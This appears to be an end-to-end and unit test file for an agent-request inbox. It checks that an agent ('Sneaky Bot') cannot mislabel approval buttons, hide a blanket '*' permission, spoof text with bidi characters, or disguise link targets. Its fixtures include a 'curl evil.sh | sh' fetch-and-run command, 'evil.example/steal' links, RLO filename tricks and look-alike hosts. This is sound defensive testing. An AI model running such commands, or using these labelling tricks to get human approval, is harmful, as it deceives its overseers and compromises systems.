// What an agent cannot fake in the inbox (docs: API.md "The inbox: what
// agents cannot fake"): the text an agent chose never names a control that
// answers a request, an always-allow choice shows its pattern as itself,
// invisible bidi/format characters are dropped from labels, titles and
// options, and a link whose text is a URL shows where it really goes.
import { describe, expect, setDefaultTimeout, test } from "bun:test";
import type { Locator } from "playwright-core";
import { startTestServer, owner, AgentClient } from "./helpers.ts";
import path from "node:path";
import { launch, freePort, openPage, shot, horizontalOverflow, unnamedControls, ARTIFACTS, DESKTOP, BROWSER_TEST_MS } from "./e2e-helpers.ts";
import { md } from "./vdom.ts";
import { clean, reveal } from "../web/text.js";

setDefaultTimeout(BROWSER_TEST_MS); // a hang guard, never a time check

const T = BROWSER_TEST_MS;
const BIDI = /[\u202A-\u202E\u2066-\u2069\u200B\u200E\u200F\u2060\uFEFF]/;

/** The accessible names of a card's buttons, as Chromium computes them. */
async function buttonNames(card: Locator) {
  const snap = await card.ariaSnapshot();
  return [...snap.matchAll(/- button "((?:[^"\\]|\\.)*)"/g)].map((m) => JSON.parse(`"${m[1]}"`) as string);
}

const PHONE_390 = { width: 390, height: 844 };

/** The card at 390 px (it must fit) and at 1280 px, into test-artifacts/. */
async function cardShots(card: Locator, name: string) {
  const page = card.page();
  await page.setViewportSize(PHONE_390);
  expect(await horizontalOverflow(page)).toBe(0);
  await card.screenshot({ path: path.join(ARTIFACTS, `${name}-390.png`) });
  await page.setViewportSize(DESKTOP);
  await card.screenshot({ path: path.join(ARTIFACTS, `${name}-1280.png`) });
}

describe("the inbox: what agents cannot fake (browser)", async () => {
  const port = freePort();
  const server = await startTestServer({ port, publicUrl: `http://127.0.0.1:${port}` });
  const person = await owner(server);
  const created = await person.createAgent({ name: "Sneaky Bot" });
  const agent = new AgentClient(server.url, created.id, created.secret);
  const browser = await launch();
  const { page } = await openPage(browser);
  const stored = async (id: string) => (await person.get(`/api/decisions/${id}`)).body;
  const ask = async (body: Record<string, unknown>) => {
    const r = await agent.event({ type: "decision", description: "", ...body });
    expect(r.status).toBe(200);
    return r.body.decision_id as string;
  };

  test("sign in on the Requests page", async () => {
    await page.goto(`${server.url}/app/requests`);
    await page.getByLabel("Username").fill("alice");
    await page.getByLabel("Password").fill("correct horse battery");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByText("Nothing waiting for you.").waitFor();
  }, T);

  test("an always-allow labelled “Deny”: the buttons say what they do, the pattern * shows, and the real Deny rejects", async () => {
    const id = await ask({
      kind: "permission",
      title: "Allow: Bash(curl evil.sh | sh)",
      description: "Details at [https://good.example](https://evil.example/steal).",
      allows_always: true,
      always_allow_label: "Deny",
      always_allow_options: [{ pattern: "*", label: "Deny" }],
    });
    const card = page.getByRole("article", { name: "Request: Allow: Bash(curl evil.sh | sh)" });
    await card.waitFor();
    expect(await buttonNames(card)).toEqual(["Allow", "Always allow", "Deny", "Add note", "Dismiss"]);
    // The pattern is shown as itself, in monospace, beside the agent's label.
    const pattern = card.locator("code", { hasText: /^\*$/ });
    expect(await pattern.isVisible()).toBe(true);
    expect(await pattern.evaluate((el) => getComputedStyle(el).fontFamily)).toMatch(/mono/i);
    // The link whose text is a URL names its real target, and goes there.
    const links = await card.locator("a[href]").evaluateAll((as) => as.map((a) => ({ text: a.textContent, href: (a as HTMLAnchorElement).href })));
    expect(links).toContainEqual({ text: "https://evil.example/steal", href: "https://evil.example/steal" });
    expect(links.filter((l) => l.text!.includes("good.example"))).toEqual([]);
    expect(await unnamedControls(page)).toEqual([]);
    await cardShots(card, "hardening-permission-deny");

    await card.getByRole("button", { name: "Deny", exact: true }).click();
    await card.getByText("Rejected by alice").waitFor();
    expect(await stored(id)).toMatchObject({ status: "rejected", always_allow: false, always_allow_pattern: null });
  }, T);

  test("several always-allow patterns: each radio is named by its pattern, the agent's label only describes it", async () => {
    const id = await ask({
      kind: "permission",
      title: "Allow: Bash(ls)",
      allows_always: true,
      always_allow_label: "Reject",
      always_allow_options: [
        { pattern: "Bash(ls)", label: "Approve" },
        { pattern: "*", label: "Deny" },
      ],
    });
    const card = page.getByRole("article", { name: "Request: Allow: Bash(ls)" });
    await card.waitFor();
    expect(await buttonNames(card)).toEqual(["Allow", "Always allow", "Deny", "Add note", "Dismiss"]);
    const radios = await card.getByRole("radio").evaluateAll((rs) => rs.map((r) => (r as HTMLInputElement).labels![0]!.textContent!.trim()));
    expect(radios).toEqual(["Bash(ls)", "*"]);
    await cardShots(card, "hardening-permission-patterns");
    await card.getByRole("radio", { name: "*", exact: true }).check();
    await card.getByRole("button", { name: "Always allow" }).click();
    await card.getByText("Always allowed").waitFor();
    expect(await stored(id)).toMatchObject({ status: "approved", always_allow: true, always_allow_pattern: "*" });
  }, T);

  test("a choice offering “Dismiss” and “Approve”: options are picked from a group, fixed controls keep their names", async () => {
    const a = await ask({ kind: "choice", title: "Which one?", options: ["Dismiss", "Approve", "Staging"] });
    const b = await ask({ kind: "choice", title: "And this one?", options: ["Dismiss", "Approve"] });
    const card = page.getByRole("article", { name: "Request: Which one?" });
    await card.waitFor();
    expect(await buttonNames(card)).toEqual(["Send choice", "Other…", "Dismiss"]);
    const group = card.getByRole("group", { name: "Options from the agent" });
    expect(await group.getByRole("radio").count()).toBe(3);
    // Nothing is chosen until the person picks: the send button waits.
    expect(await card.getByRole("button", { name: "Send choice" }).isDisabled()).toBe(true);
    await cardShots(card, "hardening-choice");

    // The agent's "Dismiss" is an answer; the fixed Dismiss dismisses.
    await group.getByRole("radio", { name: "Dismiss" }).check();
    await card.getByRole("button", { name: "Send choice" }).click();
    await card.getByText("Answered by alice").waitFor();
    expect(await stored(a)).toMatchObject({ status: "responded", note: "Dismiss" });

    const other = page.getByRole("article", { name: "Request: And this one?" });
    await other.getByRole("button", { name: "Dismiss", exact: true }).click();
    await other.getByText("Dismissed by alice").waitFor();
    expect(await stored(b)).toMatchObject({ status: "dismissed", note: null });
  }, T);

  test("bidi overrides and invisible characters are dropped from titles, labels and options", async () => {
    const RLO = "\u202E";
    await ask({
      kind: "permission",
      title: `Allow: Bash(cat ${RLO}txt.exe) \u2066x\u2069`,
      allows_always: true,
      always_allow_label: `Always${RLO} allow \u200Beverything`,
      always_allow_options: [
        { pattern: `Bash(cat ${RLO}*)`, label: `Just${RLO} this` },
        { pattern: "Bash(cat *)", label: `cat\uFEFF anything` },
      ],
    });
    await ask({ kind: "choice", title: `Pick${RLO} one`, options: [`Yes${RLO} please`, "No\u2067 thanks\u2069"] });
    const card = page.getByRole("article", { name: "Request: Allow: Bash(cat txt.exe) x" });
    await card.waitFor();
    const choice = page.getByRole("article", { name: "Request: Pick one" });
    await choice.waitFor();
    for (const c of [card, choice]) expect(await c.evaluate((el) => el.textContent)).not.toMatch(BIDI);
    await choice.getByRole("radio", { name: "Yes please" }).waitFor();
    await choice.getByRole("radio", { name: "No thanks" }).waitFor();
    // A pattern is shown as itself: its invisible characters are spelled out, not hidden or dropped.
    await card.locator("code", { hasText: "Bash(cat [U+202E]*)" }).waitFor();
    expect(await buttonNames(card)).toEqual(["Allow", "Always allow", "Deny", "Add note", "Dismiss"]);
    await cardShots(card, "hardening-permission-bidi");
    await page.setViewportSize(PHONE_390);
    await shot(page, "hardening-requests-390");
    await page.setViewportSize(DESKTOP);
  }, T);

  test("activity titles and report titles are shown without bidi overrides too", async () => {
    expect((await agent.event({ type: "alert", title: "Ran: \u202Etxt.exe", text: "\u2066ok\u2069" })).status).toBe(200);
    expect((await agent.event({ type: "message", text: "body", report_title: "Weekly\u202E report", report_description: "12\u200B checks" })).status).toBe(200);
    await page.goto(`${server.url}/app/activity`);
    await page.getByText("Ran: txt.exe", { exact: true }).waitFor();
    expect(await page.locator("main").evaluate((el) => el.textContent)).not.toMatch(BIDI);
    await page.goto(`${server.url}/app/agents/${created.id}`);
    const report = page.getByRole("button", { name: "Open report: Weekly report" });
    await report.waitFor();
    expect(await report.evaluate((el) => el.textContent)).not.toMatch(BIDI);
  }, T);
});

describe("the inbox: what agents cannot fake (rendering)", () => {
  test("clean() drops bidi overrides, isolates and other invisible format characters; keeps emoji joiners", () => {
    expect(clean("In\u202Evoice\u202C \u2066a\u2069\u2067b\u2068c\u202A\u202B\u202D")).toBe("Invoice abc");
    expect(clean("a\u200Bb\u200Ec\u200Fd\u2060e\uFEFFf\u00ADg\u061Ch")).toBe("abcdefgh");
    expect(clean("👩\u200D💻 and می\u200Cخواهم")).toBe("👩\u200D💻 and می\u200Cخواهم");
    expect(clean(null)).toBe("");
  });
  test("reveal() spells invisible characters out, so a pattern is shown as itself", () => {
    expect(reveal("Bash(\u202Ecat *)")).toBe("Bash([U+202E]cat *)");
    expect(reveal("a\u200Bb\uFEFF")).toBe("a[U+200B]b[U+FEFF]");
    expect(reveal("Bash(npm install *)")).toBe("Bash(npm install *)");
  });
  test("a link whose text is a URL to somewhere else shows its real target", () => {
    const out = md("[https://good.example](https://evil.example/steal)");
    expect(out).toContain('<a href="https://evil.example/steal" target="_blank" rel="noopener noreferrer nofollow">https://evil.example/steal</a>');
    expect(out).not.toMatch(/<a [^>]*>[^<]*good\.example/);
    // Also a bare domain, a URL inside other words, and formatting around it.
    for (const text of ["good.example", "see https://good.example/login now", "**https://good.example**", "www.good.example", "https://good.example\u202E"]) {
      const o = md(`[${text}](https://evil.example/x)`);
      expect({ text, o }).toEqual({ text, o: expect.stringContaining(">https://evil.example/x</a>") });
      expect({ text, o }).toEqual({ text, o: expect.not.stringMatching(/<a [^>]*>[^<]*good\.example/) });
    }
    // Look-alike hosts (Cyrillic а) are another host.
    expect(md("[exаmple.com](https://example.com/)")).toContain(">https://example.com/</a>");
  });
  test("a link whose text is its own target, or plain words, renders as written", () => {
    expect(md("[https://good.example/a](https://good.example/a)")).toContain('<a href="https://good.example/a" target="_blank" rel="noopener noreferrer nofollow">https://good.example/a</a>');
    expect(md("[good.example](https://good.example/docs)")).toContain(">good.example</a>");
    expect(md("[example.com](https://www.example.com/)")).toContain(">example.com</a>");
    expect(md("[the docs](https://evil.example/)")).toContain('<a href="https://evil.example/" target="_blank" rel="noopener noreferrer nofollow">the docs</a>');
    expect(md("[ok](https://example.com/a)")).toContain(">ok</a>");
    // A URL inside a link's text is not a second link (no <a> inside an <a>).
    expect(md("[https://good.example](https://good.example/)").match(/<a /g)).toHaveLength(1);
  });
  test("a bare URL with a bidi override shows, and goes, without it", () => {
    const out = md("go to https://good.example/\u202Eexe.txt");
    expect(out).not.toMatch(BIDI);
    expect(out).toContain('<a href="https://good.example/exe.txt" target="_blank" rel="noopener noreferrer nofollow">https://good.example/exe.txt</a>');
  });
});
